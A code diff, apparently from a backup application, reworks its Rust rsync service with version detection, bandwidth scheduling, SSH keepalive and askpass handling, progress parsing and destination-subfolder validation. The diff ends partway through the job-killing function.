@@ -1,23 +1,479 @@
-use crate::error::Result;
-use crate::types::job::{SyncJob, SyncMode};
+use crate::error::{AmberError, Result};
+use crate::services::age_filter;
+use crate::services::backup_runner::RunTracker;
+use crate::services::data_dir;
+use crate::services::exclude_preview;
+use crate::services::keychain_service::KeychainService;
+use crate::services::process_priority;
+use crate::services::ssh_askpass;
+use crate::services::ssh_check::SshOutput;
+use crate::types::job::{
+    BandwidthWindow, DeleteThreshold, RsyncConfig, RsyncVerbosity, SshConfig, SyncJob, SyncMode,
+};
 use crate::utils::validation::{
-    sanitize_ssh_option, validate_file_path, validate_proxy_jump, validate_ssh_port,
+    sanitize_ssh_option, validate_dest_subfolder, validate_file_path, validate_proxy_jump,
+    validate_rsync_env, validate_ssh_port,
 };
-use crate::utils::{is_ssh_remote, ssh_local_part}; // TIM-123: Use centralized path utilities
+use crate::utils::{is_ssh_remote, parse_ssh_remote, relative_path_between}; // TIM-123: Use centralized path utilities
 use regex::Regex;
 use std::collections::HashMap;
+use std::io::BufRead;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::sync::{Arc, Mutex, OnceLock};
 
 /// Compiled regex for backup directory names (compiled once, reused)
-fn backup_dir_pattern() -> &'static Regex {
+pub(crate) fn backup_dir_pattern() -> &'static Regex {
     static RE: OnceLock<Regex> = OnceLock::new();
     RE.get_or_init(|| Regex::new(r"^\d{4}-\d{2}-\d{2}-\d{6}$").unwrap())
 }
 
 const LATEST_SYMLINK_NAME: &str = "latest";
 
+/// Folder name a job's snapshots live under: the last segment of the source,
+/// taken from the remote path for `host:path` sources
+fn source_basename(source_path: &str) -> String {
+    let remote = parse_ssh_remote(source_path);
+    let path = remote.as_ref().map_or(source_path, |r| r.path.as_str());
+    Path::new(path)
+        .file_name()
+        .and_then(|n| n.to_str())
+        .unwrap_or("backup")
+        .to_string()
+}
+
+/// Folder inside `dest_path` that `job`'s backups go to: its
+/// `dest_subfolder` template with `{source_basename}` and `{host}` filled in,
+/// or the source basename when it has none. The result must be a relative
+/// path that stays inside the destination.
+pub fn dest_subfolder(job: &SyncJob) -> Result<String> {
+    let Some(template) = job.dest_subfolder.as_deref() else {
+        return Ok(source_basename(&job.source_path));
+    };
+
+    let host = match parse_ssh_remote(&job.source_path) {
+        Some(remote) => remote.host,
+        None => hostname::get()
+            .ok()
+            .and_then(|h| h.into_string().ok())
+            .unwrap_or_else(|| "localhost".to_string()),
+    };
+    let rendered = template
+        .replace("{source_basename}", &source_basename(&job.source_path))
+        .replace("{host}", &host);
+    if rendered.contains(['{', '}']) {
+        return Err(AmberError::ValidationError(format!(
+            "Destination subfolder '{}' uses an unknown token (use {{source_basename}} or {{host}})",
+            template
+        )));
+    }
+
+    validate_dest_subfolder(&rendered)?;
+    Ok(rendered)
+}
+
+/// Directory `job`'s snapshots (or its mirror) live in
+pub fn target_base(job: &SyncJob) -> Result<PathBuf> {
+    Ok(Path::new(&job.dest_path).join(dest_subfolder(job)?))
+}
+
+/// Add `options` to the ssh command rsync's `-e` runs. They go right after
+/// the program, ahead of the job's own options, since ssh keeps the first
+/// value it sees for an option.
+pub fn insert_ssh_options(args: &mut [String], options: &str) {
+    let Some(index) = args.iter().position(|arg| arg == "-e") else {
+        return;
+    };
+    if let Some(ssh_cmd) = args.get_mut(index + 1) {
+        *ssh_cmd = match ssh_cmd.split_once(' ') {
+            Some((program, rest)) => format!("{} {} {}", program, options, rest),
+            None => format!("{} {}", ssh_cmd, options),
+        };
+    }
+}
+
+/// Where Amber keeps its own files (askpass helpers, generated file lists)
+fn app_data_dir() -> PathBuf {
+    if data_dir::is_initialized() {
+        data_dir::get().clone()
+    } else {
+        data_dir::default_data_dir()
+    }
+}
+
+/// Pre-flight check for a local backup source.
+///
+/// rsync exits 0 for an empty directory and only warns on unreadable ones, so
+/// without this the run "succeeds" and leaves an empty snapshot behind.
+/// SSH sources are checked by rsync itself on the remote side.
+pub fn check_source_ready(source_path: &str) -> Result<()> {
+    if is_ssh_remote(source_path) {
+        return Ok(());
+    }
+
+    let source = Path::new(source_path);
+    let metadata = std::fs::metadata(source)
+        .map_err(|e| AmberError::UnreadableSource(format!("{}: {}", source_path, e)))?;
+
+    if !metadata.is_dir() {
+        return std::fs::File::open(source)
+            .map(|_| ())
+            .map_err(|e| AmberError::UnreadableSource(format!("{}: {}", source_path, e)));
+    }
+
+    let mut entries = std::fs::read_dir(source)
+        .map_err(|e| AmberError::UnreadableSource(format!("{}: {}", source_path, e)))?;
+    match entries.next() {
+        Some(Ok(_)) => Ok(()),
+        Some(Err(e)) => Err(AmberError::UnreadableSource(format!(
+            "{}: {}",
+            source_path, e
+        ))),
+        None => Err(AmberError::EmptySource(source_path.to_string())),
+    }
+}
+
+/// Whether rsync is available and which version it is
+#[derive(Debug, Clone, serde::Serialize, serde::Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct RsyncStatus {
+    pub installed: bool,
+    pub version: Option<String>,
+}
+
+/// Numeric rsync release, e.g. 3.2.7
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub struct RsyncVersion {
+    pub major: u32,
+    pub minor: u32,
+    pub patch: u32,
+}
+
+impl RsyncVersion {
+    /// First release with `--info`
+    pub const INFO_FLAGS: RsyncVersion = RsyncVersion {
+        major: 3,
+        minor: 1,
+        patch: 0,
+    };
+
+    /// First release with `--mkpath`
+    pub const MKPATH: RsyncVersion = RsyncVersion {
+        major: 3,
+        minor: 2,
+        patch: 3,
+    };
+
+    /// Read the release from an `rsync --version` banner
+    /// ("rsync  version 3.2.7  protocol version 31"). The protocol number
+    /// has no dot, so it is never mistaken for the release.
+    pub fn parse(banner: &str) -> Option<Self> {
+        static RE: OnceLock<Regex> = OnceLock::new();
+        let re = RE.get_or_init(|| Regex::new(r"version\s+v?(\d+)\.(\d+)(?:\.(\d+))?").unwrap());
+        let caps = re.captures(banner)?;
+        Some(Self {
+            major: caps[1].parse().ok()?,
+            minor: caps[2].parse().ok()?,
+            patch: caps.get(3).map_or(Some(0), |m| m.as_str().parse().ok())?,
+        })
+    }
+
+    pub fn supports_mkpath(&self) -> bool {
+        *self >= Self::MKPATH
+    }
+
+    pub fn supports_info_flags(&self) -> bool {
+        *self >= Self::INFO_FLAGS
+    }
+}
+
+impl std::fmt::Display for RsyncVersion {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}.{}.{}", self.major, self.minor, self.patch)
+    }
+}
+
+/// The typed error for a run whose stderr shows the two rsyncs couldn't agree
+/// on a protocol, or None for any other failure. Versions are taken from what
+/// rsync printed (`-vv` protocol lines, `[server=…]`/`[client=…]` tags);
+/// `local_version` stands in when it didn't name the local one.
+pub fn protocol_mismatch(stderr: &str, local_version: Option<RsyncVersion>) -> Option<AmberError> {
+    static MISMATCH: OnceLock<Regex> = OnceLock::new();
+    static REMOTE_PROTOCOL: OnceLock<Regex> = OnceLock::new();
+    static TAG: OnceLock<Regex> = OnceLock::new();
+
+    let mismatch = MISMATCH.get_or_init(|| {
+        Regex::new(
+            r"protocol version mismatch|protocol incompatibility|--protocol must be at least",
+        )
+        .unwrap()
+    });
+    if !mismatch.is_match(stderr) {
+        return None;
+    }
+
+    let remote_protocol =
+        REMOTE_PROTOCOL.get_or_init(|| Regex::new(r"Protocol versions: remote=(\d+)").unwrap());
+    let tag = TAG.get_or_init(|| Regex::new(r"\[(server|client)=([^\]\s]+)\]").unwrap());
+    let tagged = |side: &str| {
+        tag.captures_iter(stderr)
+            .find(|caps| &caps[1] == side)
+            .map(|caps| caps[2].to_string())
+    };
+
+    let remote = remote_protocol
+        .captures(stderr)
+        .map(|caps| format!("protocol {}", &caps[1]))
+        .or_else(|| tagged("server"))
+        .unwrap_or_else(|| "unknown version".to_string());
+    let local = tagged("client")
+        .or_else(|| local_version.map(|v| v.to_string()))
+        .unwrap_or_else(|| "unknown version".to_string());
+
+    Some(AmberError::RsyncProtocolMismatch { local, remote })
+}
+
+/// The `--bwlimit` (KiB/s) a schedule sets at local time `now`: the lowest
+/// limit among the windows containing it, or None when none does. Windows
+/// with an unparseable time or a zero limit (unlimited to rsync) are ignored.
+pub fn scheduled_bwlimit(schedule: &[BandwidthWindow], now: chrono::NaiveTime) -> Option<u32> {
+    let clock = |s: &str| chrono::NaiveTime::parse_from_str(s.trim(), "%H:%M").ok();
+    schedule
+        .iter()
+        .filter(|w| w.bwlimit_kbps > 0)
+        .filter(|w| match (clock(&w.start), clock(&w.end)) {
+            (Some(start), Some(end)) if start < end => start <= now && now < end,
+            // Wraps past midnight
+            (Some(start), Some(end)) if start > end => now >= start || now < end,
+            (Some(_), Some(_)) => true,
+            _ => {
+                log::warn!(
+                    "Ignoring bandwidth window with invalid time: {}-{}",
+                    w.start,
+                    w.end
+                );
+                false
+            }
+        })
+        .map(|w| w.bwlimit_kbps)
+        .min()
+}
+
+/// ssh `ServerAliveInterval` for SSH jobs that don't set their own
+pub const DEFAULT_SSH_KEEPALIVE_INTERVAL_SECS: u32 = 15;
+/// ssh `ServerAliveCountMax` for SSH jobs that don't set their own
+pub const DEFAULT_SSH_KEEPALIVE_COUNT_MAX: u32 = 4;
+
+/// Keepalive options for the ssh command of a job with `ssh` settings. None
+/// when keepalives are off, or when the job's custom ssh options already
+/// set them.
+fn ssh_keepalive_options(ssh: Option<&SshConfig>) -> Option<String> {
+    let interval = ssh
+        .and_then(|s| s.keepalive_interval_secs)
+        .unwrap_or(DEFAULT_SSH_KEEPALIVE_INTERVAL_SECS);
+    if interval == 0 {
+        return None;
+    }
+    let custom = ssh.and_then(|s| s.custom_ssh_options.as_deref());
+    if custom.is_some_and(|opts| opts.to_ascii_lowercase().contains("serveralive")) {
+        return None;
+    }
+    let count = ssh
+        .and_then(|s| s.keepalive_count_max)
+        .unwrap_or(DEFAULT_SSH_KEEPALIVE_COUNT_MAX)
+        .max(1);
+    Some(format!(
+        "-o ServerAliveInterval={} -o ServerAliveCountMax={}",
+        interval, count
+    ))
+}
+
+/// The `--bwlimit` (KiB/s) for a backup of `conf` starting at local time
+/// `now`: the schedule's limit inside one of its windows, otherwise the
+/// job's own cap. None when the run is unlimited.
+pub fn effective_bwlimit(conf: &RsyncConfig, now: chrono::NaiveTime) -> Option<u32> {
+    scheduled_bwlimit(&conf.bandwidth_schedule, now).or(conf.bwlimit_kbps.filter(|kbps| *kbps > 0))
+}
+
+/// Whether `value` is a rate rsync's `--bwlimit` takes: a number, optionally
+/// with a K or M suffix
+fn is_valid_bwlimit(value: &str) -> bool {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"^\d+(\.\d+)?[KkMm]?$").unwrap())
+        .is_match(value)
+}
+
+/// Platform-specific hint appended to the "not found" error
+fn rsync_install_hint() -> &'static str {
+    if cfg!(target_os = "macos") {
+        "install it via Homebrew (`brew install rsync`) or the Xcode Command Line Tools"
+    } else if cfg!(target_os = "windows") {
+        "install it via WSL, Cygwin or MSYS2 and make sure it is on PATH"
+    } else {
+        "install it via your package manager (e.g. `sudo apt install rsync`)"
+    }
+}
+
+/// Turn the result of running `rsync --version` into a status.
+/// `probe` is `(exited successfully, stdout)`; split out so tests can stub it.
+fn rsync_status_from_probe(probe: std::io::Result<(bool, String)>) -> Result<RsyncStatus> {
+    match probe {
+        Ok((true, stdout)) => Ok(RsyncStatus {
+            installed: true,
+            version: stdout
+                .lines()
+                .next()
+                .map(|l| l.trim().to_string())
+                .filter(|l| !l.is_empty()),
+        }),
+        Ok((false, _)) => Err(AmberError::Rsync(format!(
+            "rsync is installed but `rsync --version` failed — reinstall it: {}",
+            rsync_install_hint()
+        ))),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Err(AmberError::Rsync(format!(
+            "rsync not found on PATH — {}",
+            rsync_install_hint()
+        ))),
+        Err(e) => Err(AmberError::Rsync(format!("Failed to run rsync: {}", e))),
+    }
+}
+
+/// Compiled regex for rsync progress lines (compiled once, reused). Per-file
+/// `--progress` and whole-run `--info=progress2` lines share this shape:
+/// "         16,384 100%    4.00MB/s    0:00:00 (xfr#2, to-chk=5/10)"
+fn progress_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r"^\s*([\d,.]+[KMGT]?)\s+(\d+)%\s+([\d.]+[kKMG]?B/s)\s+(\d+:\d+:\d+)").unwrap()
+    })
+}
+
+/// One line of rsync stdout, as the job runner reads it
+#[derive(Debug, Clone, PartialEq)]
+pub enum RsyncOutputLine {
+    Progress {
+        transferred: String,
+        percentage: u8,
+        speed: String,
+        eta: String,
+    },
+    /// A file rsync is working on (only listed at `Full` verbosity)
+    File(String),
+    /// Headers and summary/stats lines
+    Info(String),
+}
+
+/// Classify a line of rsync stdout produced at `verbosity`
+pub fn parse_output_line(line: &str, verbosity: RsyncVerbosity) -> RsyncOutputLine {
+    if let Some(caps) = progress_regex().captures(line) {
+        if let Ok(percentage) = caps[2].parse() {
+            return RsyncOutputLine::Progress {
+                transferred: caps[1].to_string(),
+                percentage,
+                speed: caps[3].to_string(),
+                eta: caps[4].to_string(),
+            };
+        }
+    }
+
+    // Without a file list every other line is header or summary
+    let is_info = !verbosity.lists_files()
+        || line.starts_with("sending")
+        || line.starts_with("receiving")
+        || line.starts_with("total")
+        || line.contains("files to consider");
+    if is_info {
+        RsyncOutputLine::Info(line.to_string())
+    } else {
+        RsyncOutputLine::File(line.to_string())
+    }
+}
+
+/// A progress line read into numbers the UI can draw a bar from
+#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct RsyncProgress {
+    pub bytes_done: u64,
+    /// Worked out from `bytes_done` and `percent`; None until rsync reports
+    /// any progress. With per-file `--progress` this is the current file.
+    pub total_bytes: Option<u64>,
+    pub percent: u8,
+    pub rate_bytes_per_sec: u64,
+    pub eta_seconds: u64,
+}
+
+/// Bytes in a count like "1,234,567" or, with `--human-readable`, "1.07G".
+/// rsync's suffixes are powers of 1000 at a single `-h`.
+fn parse_byte_count(value: &str) -> Option<u64> {
+    let value = value.replace(',', "");
+    let (number, multiplier) = match value.chars().last()? {
+        'k' | 'K' => (&value[..value.len() - 1], 1e3),
+        'M' => (&value[..value.len() - 1], 1e6),
+        'G' => (&value[..value.len() - 1], 1e9),
+        'T' => (&value[..value.len() - 1], 1e12),
+        _ => (value.as_str(), 1.0),
+    };
+    let number: f64 = number.parse().ok()?;
+    Some((number * multiplier).round() as u64)
+}
+
+/// Seconds in an "H:MM:SS" ETA
+fn parse_eta(eta: &str) -> Option<u64> {
+    eta.split(':').try_fold(0u64, |total, part| {
+        Some(total * 60 + part.parse::<u64>().ok()?)
+    })
+}
+
+/// Read a `--progress` or `--info=progress2` line into numbers. None for
+/// anything that isn't a progress line.
+pub fn parse_progress_line(line: &str) -> Option<RsyncProgress> {
+    let caps = progress_regex().captures(line)?;
+    let bytes_done = parse_byte_count(&caps[1])?;
+    let percent: u8 = caps[2].parse().ok()?;
+    let rate_bytes_per_sec = parse_byte_count(caps[3].trim_end_matches("B/s"))?;
+    let eta_seconds = parse_eta(&caps[4])?;
+    let total_bytes = (percent > 0).then(|| bytes_done * 100 / u64::from(percent));
+    Some(RsyncProgress {
+        bytes_done,
+        total_bytes,
+        percent,
+        rate_bytes_per_sec,
+        eta_seconds,
+    })
+}
+
+/// Split rsync stdout on `\r` as well as `\n`. Progress updates rewrite one
+/// terminal line with `\r`, and `--info=progress2` only ends that line when
+/// the run finishes, so splitting on `\n` alone would hold every update back.
+pub fn split_output<R: BufRead>(mut reader: R) -> impl Iterator<Item = String> {
+    let mut pending = Vec::new();
+    std::iter::from_fn(move || loop {
+        let (line, used) = {
+            let buf = match reader.fill_buf() {
+                Ok(buf) => buf,
+                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
+                Err(_) => return None,
+            };
+            if buf.is_empty() {
+                if pending.is_empty() {
+                    return None;
+                }
+                (Some(std::mem::take(&mut pending)), 0)
+            } else if let Some(end) = buf.iter().position(|b| *b == b'\n' || *b == b'\r') {
+                pending.extend_from_slice(&buf[..end]);
+                (Some(std::mem::take(&mut pending)), end + 1)
+            } else {
+                pending.extend_from_slice(buf);
+                (None, buf.len())
+            }
+        };
+        reader.consume(used);
+        if let Some(line) = line {
+            return Some(String::from_utf8_lossy(&line).into_owned());
+        }
+    })
+}
+
 /// Info about a running or completed backup
 #[derive(Debug, Clone)]
 pub struct BackupInfo {
@@ -29,8 +485,9 @@ pub struct BackupInfo {
 }
 
 pub struct RsyncService {
-    active_jobs: Arc<Mutex<HashMap<String, u32>>>, // job_id -> pid
+    runs: RunTracker,
     backup_info: Arc<Mutex<HashMap<String, BackupInfo>>>, // job_id -> backup info
+    version: OnceLock<Option<RsyncVersion>>,              // probed on first use
 }
 
 struct RsyncCommand {
@@ -41,11 +498,33 @@ struct RsyncCommand {
 impl RsyncService {
     pub fn new() -> Self {
         Self {
-            active_jobs: Arc::new(Mutex::new(HashMap::new())),
+            runs: RunTracker::new(),
             backup_info: Arc::new(Mutex::new(HashMap::new())),
+            version: OnceLock::new(),
         }
     }
 
+    /// Check that the rsync binary is on PATH and report its version
+    pub fn check_installation(&self) -> Result<RsyncStatus> {
+        let probe = Command::new("rsync").arg("--version").output().map(|o| {
+            (
+                o.status.success(),
+                String::from_utf8_lossy(&o.stdout).to_string(),
+            )
+        });
+        rsync_status_from_probe(probe)
+    }
+
+    /// Installed rsync release, probed once; `None` if it can't be determined
+    pub fn version(&self) -> Option<RsyncVersion> {
+        *self.version.get_or_init(|| {
+            self.check_installation()
+                .ok()
+                .and_then(|status| status.version)
+                .and_then(|banner| RsyncVersion::parse(&banner))
+        })
+    }
+
     /// Get backup info for a job (available after spawn_rsync)
     pub fn get_backup_info(&self, job_id: &str) -> Option<BackupInfo> {
         self.backup_info.lock().ok()?.get(job_id).cloned()
@@ -74,12 +553,21 @@ impl RsyncService {
             "--numeric-ids".to_string(),
             "--links".to_string(),
             "--hard-links".to_string(),
-            "--one-file-system".to_string(),
-            "--itemize-changes".to_string(),
-            "--stats".to_string(),
             "--human-readable".to_string(),
-            "--progress".to_string(),
         ]);
+        // Older rsync (macOS ships 2.6.9) rejects --info; unknown counts as old
+        let info_flags = self.version().is_some_and(|v| v.supports_info_flags());
+        args.extend(
+            conf.verbosity
+                .output_flags(info_flags)
+                .iter()
+                .map(|f| f.to_string()),
+        );
+
+        // Stay on the source filesystem unless the job opts into mounts below it
+        if !conf.cross_filesystems {
+            args.push("--one-file-system".to_string());
+        }
 
         if conf.archive {
             args.push("-a".to_string());
@@ -95,21 +583,50 @@ impl RsyncService {
             ]);
         }
 
-        if conf.compress {
+        if conf.preserve_xattrs {
+            args.push("-X".to_string());
+        }
+        if conf.preserve_acls {
+            args.push("-A".to_string());
+        }
+        // SSH config - either explicit or auto-detected from remote path
+        let ssh_enabled = job.ssh_config.as_ref().map(|s| s.enabled).unwrap_or(false);
+        let auto_detect_ssh = is_ssh_remote(&job.source_path);
+        let uses_ssh = ssh_enabled || auto_detect_ssh;
+
+        // A network link is usually slower than compressing, so SSH jobs
+        // compress unless their SSH settings turn it off
+        let ssh_compress =
+            uses_ssh && job.ssh_config.as_ref().and_then(|s| s.compress) != Some(false);
+        if conf.compress || ssh_compress {
             args.push("-z".to_string());
         }
-        if conf.verbose {
+        if conf.verbose && conf.verbosity.lists_files() {
             args.push("-v".to_string());
         }
         if conf.delete {
-            args.push("--delete".to_string());
+            args.push(conf.delete_mode.as_flag().to_string());
+            if conf.delete_excluded {
+                args.push("--delete-excluded".to_string());
+            }
+            // rsync holds the real run to a count limit even if the source
+            // changed since the dry run
+            if let Some(DeleteThreshold::Count(max)) = conf.max_delete {
+                args.push(format!("--max-delete={}", max));
+            }
+        }
+        if let Some(kbps) = effective_bwlimit(conf, chrono::Local::now().time()) {
+            args.push(format!("--bwlimit={}", kbps));
+        }
+        if let Some(protocol) = conf.protocol_version {
+            args.push(format!("--protocol={}", protocol));
+        }
+        // Older rsync rejects --mkpath; the local target is pre-created anyway
+        if conf.create_dest && self.version().is_some_and(|v| v.supports_mkpath()) {
+            args.push("--mkpath".to_string());
         }
 
-        // SSH config - either explicit or auto-detected from remote path
-        let ssh_enabled = job.ssh_config.as_ref().map(|s| s.enabled).unwrap_or(false);
-        let auto_detect_ssh = is_ssh_remote(&job.source_path);
-
-        if ssh_enabled || auto_detect_ssh {
+        if uses_ssh {
             let mut ssh_cmd = "ssh".to_string();
 
             // Apply SSH config options if provided
@@ -205,6 +722,10 @@ impl RsyncService {
                 }
             }
 
+            if let Some(keepalive) = ssh_keepalive_options(job.ssh_config.as_ref()) {
+                ssh_cmd.push_str(&format!(" {}", keepalive));
+            }
+
             args.push("-e".to_string());
             args.push(ssh_cmd);
         }
@@ -216,12 +737,16 @@ impl RsyncService {
             }
         }
 
-        // Exclude patterns
-        for pattern in &conf.exclude_patterns {
-            if !pattern.trim().is_empty() {
-                args.push(format!("--exclude={}", pattern.trim()));
-            }
+        // Exclude patterns, trimmed and deduplicated in their original order
+        let excludes = exclude_preview::normalize_patterns(&conf.exclude_patterns);
+        for warning in exclude_preview::subsumed_patterns(&excludes) {
+            log::warn!(
+                "[rsync_service] Exclude pattern '{}' is {}",
+                warning.pattern,
+                warning.reason
+            );
         }
+        args.extend(excludes.iter().map(|p| format!("--exclude={}", p)));
 
         if !conf.custom_flags.trim().is_empty() {
             match shell_words::split(conf.custom_flags.trim()) {
@@ -243,30 +768,49 @@ impl RsyncService {
         args
     }
 
+    /// Fill in a custom command's `{source}`, `{dest}`, `{linkDest}` and
+    /// `{bwlimit}` (0, unlimited, when the job has no cap) and split it into
+    /// arguments. A `--bwlimit` whose value isn't a rate is refused.
     fn parse_custom_command(
         &self,
         cmd: &str,
         source: &str,
         dest: &str,
         link_dest: Option<&str>,
-    ) -> RsyncCommand {
+        bwlimit: Option<u32>,
+    ) -> Result<RsyncCommand> {
         let processed = cmd
             .replace("{source}", &self.ensure_trailing_slash(source))
             .replace("{dest}", dest)
-            .replace("{linkDest}", link_dest.unwrap_or(""));
+            .replace("{linkDest}", link_dest.unwrap_or(""))
+            .replace("{bwlimit}", &bwlimit.unwrap_or(0).to_string());
 
         let parts = shell_words::split(&processed).unwrap_or_else(|_| vec![processed]);
         if parts.is_empty() {
-            return RsyncCommand {
+            return Ok(RsyncCommand {
                 program: "rsync".to_string(),
                 args: Vec::new(),
+            });
+        }
+
+        for (i, arg) in parts.iter().enumerate() {
+            let value = match arg.strip_prefix("--bwlimit") {
+                Some(rest) if rest.starts_with('=') => &rest[1..],
+                Some("") => parts.get(i + 1).map(String::as_str).unwrap_or(""),
+                _ => continue,
             };
+            if !is_valid_bwlimit(value) {
+                return Err(AmberError::ValidationError(format!(
+                    "Invalid --bwlimit value '{}' in custom command: expected a number, optionally with a K or M suffix",
+                    value
+                )));
+            }
         }
 
-        RsyncCommand {
+        Ok(RsyncCommand {
             program: parts[0].clone(),
             args: parts[1..].to_vec(),
-        }
+        })
     }
 
     fn build_command(
@@ -274,17 +818,24 @@ impl RsyncService {
         job: &SyncJob,
         final_dest: &str,
         link_dest: Option<&str>,
-    ) -> RsyncCommand {
+    ) -> Result<RsyncCommand> {
         if let Some(ref custom) = job.config.custom_command {
             if !custom.trim().is_empty() {
-                return self.parse_custom_command(custom, &job.source_path, final_dest, link_dest);
+                let bwlimit = effective_bwlimit(&job.config, chrono::Local::now().time());
+                return self.parse_custom_command(
+                    custom,
+                    &job.source_path,
+                    final_dest,
+                    link_dest,
+                    bwlimit,
+                );
             }
         }
 
-        RsyncCommand {
+        Ok(RsyncCommand {
             program: "rsync".to_string(),
             args: self.build_rsync_args(job, final_dest, link_dest),
-        }
+        })
     }
 
     fn ensure_trailing_slash(&self, path: &str) -> String {
@@ -331,6 +882,74 @@ impl RsyncService {
         backups.last().map(|e| e.path())
     }
 
+    /// `--link-dest` for a new snapshot at `final_dest`: the previous backup,
+    /// expressed relative to `final_dest` (rsync resolves a relative link-dest
+    /// against the destination dir), so moving the whole destination doesn't
+    /// break the hardlink base. Falls back to absolute if no relative path exists.
+    pub fn link_dest_for(&self, target_base: &Path, final_dest: &Path) -> Option<PathBuf> {
+        let previous = self.get_latest_backup(target_base.to_str().unwrap_or(""))?;
+        Some(relative_path_between(final_dest, &previous).unwrap_or(previous))
+    }
+
+    /// SSH_ASKPASS handoff for jobs whose identity file has a keychain passphrase.
+    /// Keychain failures only log: ssh then falls back to agent/unencrypted keys.
+    fn ssh_askpass_env(&self, job: &SyncJob) -> Vec<(String, String)> {
+        let helper_dir = app_data_dir();
+        let keychain = KeychainService::new();
+        match ssh_askpass::env_for_job(job, &helper_dir, |key| keychain.get_ssh_passphrase(key)) {
+            Ok(env) => {
+                if !env.is_empty() {
+                    log::info!("[rsync_service] Using keychain passphrase via SSH_ASKPASS");
+                }
+                env
+            }
+            Err(e) => {
+                log::warn!("[rsync_service] SSH passphrase handoff unavailable: {}", e);
+                Vec::new()
+            }
+        }
+    }
+
+    /// Process for `command` with the job's allowlisted environment applied.
+    /// The askpass variables go last so a job can't override them, and a run
+    /// that uses them gets `ssh_askpass::ASKPASS_SSH_OPTIONS`. With background
+    /// priority on, the command runs under nice/ionice.
+    fn build_process(&self, job: &SyncJob, command: &RsyncCommand) -> Result<Command> {
+        let askpass = self.ssh_askpass_env(job);
+        let mut rsync_args = command.args.clone();
+        if !askpass.is_empty() {
+            ssh_askpass::restrict_rsync_ssh(&mut rsync_args);
+        }
+        let (program, args) = process_priority::apply(&command.program, &rsync_args);
+        let mut process = Command::new(program);
+        process
+            .args(args)
+            .envs(validate_rsync_env(&job.env)?)
+            .envs(askpass)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        Ok(process)
+    }
+
+    /// Run rsync with `args` in `job`'s environment, the way its backups run,
+    /// and wait for its output
+    pub fn run_to_completion(&self, job: &SyncJob, args: &[String]) -> std::io::Result<SshOutput> {
+        let command = RsyncCommand {
+            program: "rsync".to_string(),
+            args: args.to_vec(),
+        };
+        let output = self
+            .build_process(job, &command)
+            .map_err(|e| std::io::Error::other(e.to_string()))?
+            .stdin(Stdio::null())
+            .output()?;
+        Ok(SshOutput {
+            exit_code: output.status.code(),
+            stdout: String::from_utf8_lossy(&output.stdout).to_string(),
+            stderr: String::from_utf8_lossy(&output.stderr).to_string(),
+        })
+    }
+
     /// Format current time as backup folder name
     pub fn format_backup_folder_name(&self) -> String {
         chrono::Utc::now().format("%Y-%m-%d-%H%M%S").to_string()
@@ -349,16 +968,11 @@ impl RsyncService {
             job.dest_path
         );
 
-        // For SSH remotes like "user@host:/path/to/dir", extract just the directory name
-        let source_basename = ssh_local_part(&job.source_path)
-            .and_then(|local_path| Path::new(local_path).file_name())
-            .or_else(|| Path::new(&job.source_path).file_name())
-            .and_then(|n| n.to_str())
-            .unwrap_or("backup");
+        let target_base = target_base(job)?;
 
-        log::info!("[rsync_service] source_basename: '{}'", source_basename);
+        check_source_ready(&job.source_path)?;
+        validate_rsync_env(&job.env)?;
 
-        let target_base = Path::new(&job.dest_path).join(source_basename);
         log::info!(
             "[rsync_service] target_base: '{}', creating directory...",
             target_base.display()
@@ -369,7 +983,7 @@ impl RsyncService {
         let (final_dest, link_dest, folder_name) = if job.mode == SyncMode::TimeMachine {
             let folder_name = self.format_backup_folder_name();
             let final_dest = target_base.join(&folder_name);
-            let link_dest = self.get_latest_backup(target_base.to_str().unwrap_or(""));
+            let link_dest = self.link_dest_for(&target_base, &final_dest);
             (final_dest, link_dest, folder_name)
         } else {
             // For non-TimeMachine modes, use a consistent folder name
@@ -377,11 +991,25 @@ impl RsyncService {
             (target_base.clone(), None, folder_name)
         };
 
-        let command = self.build_command(
+        let mut command = self.build_command(
             job,
             final_dest.to_str().unwrap_or(""),
             link_dest.as_ref().and_then(|p| p.to_str()),
-        );
+        )?;
+
+        // A custom command is run as written; the age filter only shapes ours
+        let custom = job
+            .config
+            .custom_command
+            .as_deref()
+            .is_some_and(|c| !c.trim().is_empty());
+        if !custom {
+            let list_dir = app_data_dir().join("cache/files-from");
+            let now = chrono::Utc::now().timestamp();
+            if let Some(list) = age_filter::write_files_from(job, &list_dir, now)? {
+                age_filter::insert_files_from(&mut command.args, &list);
+            }
+        }
 
         log::info!(
             "[rsync_service] Spawning '{}' with {} args: {:?}",
@@ -390,18 +1018,12 @@ impl RsyncService {
             command.args
         );
 
-        let child = Command::new(&command.program)
-            .args(&command.args)
-            .stdout(Stdio::piped())
-            .stderr(Stdio::piped())
-            .spawn()?;
+        let child = self.build_process(job, &command)?.spawn()?;
 
         log::info!("[rsync_service] rsync spawned with PID: {}", child.id());
 
         // Track active job
-        if let Ok(mut jobs) = self.active_jobs.lock() {
-            jobs.insert(job.id.clone(), child.id());
-        }
+        self.runs.start(&job.id, child.id());
 
         // Store backup info for later retrieval
         let backup_info = BackupInfo {
@@ -420,34 +1042,32 @@ impl RsyncService {
 
     /// Kill a running job
     pub fn kill_job(&self, job_id: &str) -> Result<()> {
-        if let Ok(mut jobs) = self.active_jobs.lock() {
-            if let Some(pid) = jobs.remove(job_id) {
-                #[cfg(unix)]
-                {
-                    use std::process::Command;
-                    // First try to kill the process group (handles child processes)
-                    // Use SIGKILL (-9) to force termination
-                    let _ = Command::new("kill")
-                        .args(["-9", &format!("-{}", pid)]) // Negative PID kills process group
-                        .status();
-
-                    // Also kill the specific PID in case process group kill didn't work
-                    let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
-
-                    // Additionally, try pkill to catch any orphaned rsync children
-                    let _ = Command::new("pkill")
-                        .args(["-9", "-P", &pid.to_string()])
-                        .status();
-                }
